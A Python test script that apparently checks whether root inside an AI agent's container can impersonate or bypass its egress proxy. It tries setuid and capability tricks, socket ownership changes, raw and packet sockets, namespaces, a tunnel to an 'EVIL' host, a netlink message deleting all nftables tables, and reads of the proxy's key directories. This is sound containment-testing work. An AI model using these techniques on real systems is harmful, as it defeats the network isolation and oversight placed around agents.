"""What root in the agent's container can try to become the proxy, or to get past it.

The argument: {"evil": address}. The answer: {what: how it ended}, where only "error: ..." is a
failure of the attempt."""
import ctypes
import json
import os
import socket
import subprocess
import sys

EVIL = json.loads(sys.argv[1])["evil"]
OWN = socket.gethostbyname(socket.gethostname())
REQUEST = b"GET / HTTP/1.0\r\n\r\n"
outcomes = {}


def attempt(what):
    def run(act):
        try:
            outcomes[what] = f"got: {act()}"
        except Exception as error:
            outcomes[what] = f"error: {error}"

    return run


def proxy_uid():
    """Learned from the sockets that everybody in the pod may list."""
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in open(table).readlines()[1:]:
            words = line.split()
            if words[1].endswith(":3A99"):
                return int(words[7])
    raise RuntimeError("the proxy is not listening")


def talk(stream, address, port, data=b"hello\n\n"):
    stream.settimeout(4)
    stream.connect((address, port))
    stream.sendall(data)
    return stream.recv(100) or 1 / 0


def tcp():
    return socket.socket(socket.AF_INET, socket.SOCK_STREAM)


def udp():
    return socket.socket(socket.AF_INET, socket.SOCK_DGRAM)


def run(*command):
    return subprocess.run(command, check=True, capture_output=True, timeout=5).stdout


UID = proxy_uid()
libc = ctypes.CDLL(None, use_errno=True)


@attempt("setuid")
def _():
    os.setuid(UID)


@attempt("setresuid")
def _():
    os.setresuid(-1, UID, -1)


@attempt("setgid")
def _():
    os.setgid(UID)


@attempt("setfsuid")
def _():
    libc.setfsuid(UID)
    if libc.setfsuid(-1) != UID:
        raise PermissionError("the uid for files did not change")
    return talk(tcp(), EVIL, 9000)


@attempt("a program that is set-uid to the proxy's uid")
def _():
    run("cp", "/usr/bin/python3", "/tmp/python3")
    os.chown("/tmp/python3", UID, UID)
    os.chmod("/tmp/python3", 0o6755)
    program = f"import os; assert os.geteuid() == {UID}"
    return run("/tmp/python3", "-c", program)


@attempt("a file with capabilities")
def _():
    open("/tmp/capable", "w").close()
    capabilities = bytes.fromhex("0100000280000000000000000000000000000000")
    os.setxattr("/tmp/capable", "security.capability", capabilities)


@attempt("a TCP socket given to the proxy's uid")
def _():
    stream = tcp()
    os.fchown(stream.fileno(), UID, UID)
    return talk(stream, EVIL, 9000)


@attempt("a UDP socket given to the proxy's uid")
def _():
    stream = udp()
    os.fchown(stream.fileno(), UID, UID)
    return talk(stream, EVIL, 9000)


@attempt("SO_MARK")
def _():
    stream = tcp()
    stream.setsockopt(socket.SOL_SOCKET, 36, 0x65786561)


@attempt("IP_TRANSPARENT")
def _():
    tcp().setsockopt(socket.SOL_IP, 19, 1)


@attempt("a source route")
def _():
    stream = tcp()
    stream.setsockopt(socket.SOL_IP, socket.IP_OPTIONS, bytes([1, 131, 7, 4]) + socket.inet_aton(EVIL))
    return talk(stream, EVIL, 9000)


@attempt("a socket bound to the interface")
def _():
    stream = tcp()
    stream.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0\0")
    return talk(stream, EVIL, 9000)


@attempt("a request in the SYN")
def _():
    stream = tcp()
    stream.setblocking(True)
    stream.sendto(b"hello\n\n", 0x20000000, (EVIL, 9000))
    return stream.recv(100) or 1 / 0


@attempt("multipath TCP")
def _():
    return talk(socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262), EVIL, 9000)


@attempt("UDP-Lite")
def _():
    return talk(socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136), EVIL, 9000)


@attempt("SCTP")
def _():
    return talk(socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132), EVIL, 9000)


@attempt("a raw IP socket")
def _():
    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)


@attempt("a raw IPv6 socket")
def _():
    socket.socket(socket.AF_INET6, socket.SOCK_RAW, 58)


@attempt("a packet socket")
def _():
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW)


@attempt("an XDP socket")
def _():
    socket.socket(44, socket.SOCK_RAW)


@attempt("an ICMP datagram socket")
def _():
    stream = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
    return stream.sendto(b"\x08\0\0\0\0\1\0\1", (EVIL, 0))


@attempt("ping")
def _():
    return run("ping", "-c", "1", "-W", "1", EVIL)


@attempt("a network namespace in a user namespace")
def _():
    return run("unshare", "-Urn", "true")


@attempt("a user namespace")
def _():
    return run("unshare", "-U", "true")


@attempt("a network namespace")
def _():
    return run("unshare", "-n", "true")


@attempt("a mount namespace")
def _():
    return run("unshare", "-m", "true")


@attempt("another address")
def _():
    return run("ip", "address", "add", "10.244.0.250/24", "dev", "eth0")


@attempt("another route")
def _():
    return run("ip", "route", "replace", "default", "dev", "lo")


@attempt("a tunnel")
def _():
    return run("ip", "link", "add", "t0", "type", "ipip", "remote", EVIL, "local", OWN)


@attempt("the rules through netlink")
def _():
    netlink = socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, 12)
    # NFNL_MSG_BATCH_BEGIN, NFT_MSG_DELTABLE (all tables), NFNL_MSG_BATCH_END.
    message = bytes.fromhex("140000001000010000000000000000000000000a")
    message += bytes.fromhex("14000000020a05000100000000000000" "00000000")
    message += bytes.fromhex("140000001100010002000000000000000000000a")
    netlink.send(message)
    netlink.settimeout(2)
    reply = netlink.recv(4096)
    code = int.from_bytes(reply[16:20], "little", signed=True)
    if code:
        raise PermissionError(os.strerror(-code))


for port in (15001, 15053, 15020):
    for address in ("127.0.0.1", "127.1.2.3", OWN, "0.0.0.0"):

        @attempt(f"the proxy's port {port} at {address}")
        def _():
            return talk(tcp(), address, port, REQUEST)

    @attempt(f"the proxy's port {port} at ::1")
    def _():
        return talk(socket.socket(socket.AF_INET6, socket.SOCK_STREAM), "::1", port, REQUEST)

    @attempt(f"the proxy's port {port} taken")
    def _():
        stream = tcp()
        stream.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        stream.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
        stream.bind(("127.0.0.1" if port != 15020 else OWN, port))
        stream.listen()


@attempt("the proxy's DNS, not by its redirection")
def _():
    return talk(udp(), "127.0.0.1", 15053)


@attempt("the proxy's process")
def _():
    for entry in os.listdir("/proc"):
        if entry.isdigit() and os.stat(f"/proc/{entry}").st_uid == UID:
            return entry
    raise ProcessLookupError("not in sight")


@attempt("the proxy's files")
def _():
    return [os.listdir(path) for path in ("/var/run/exeat/keys", "/var/lib/exeat", "/var/run/exeat/identity")]


@attempt("the trusted certificates")
def _():
    open("/var/run/exeat/trust/ca.crt", "a").close()


print(json.dumps(outcomes))
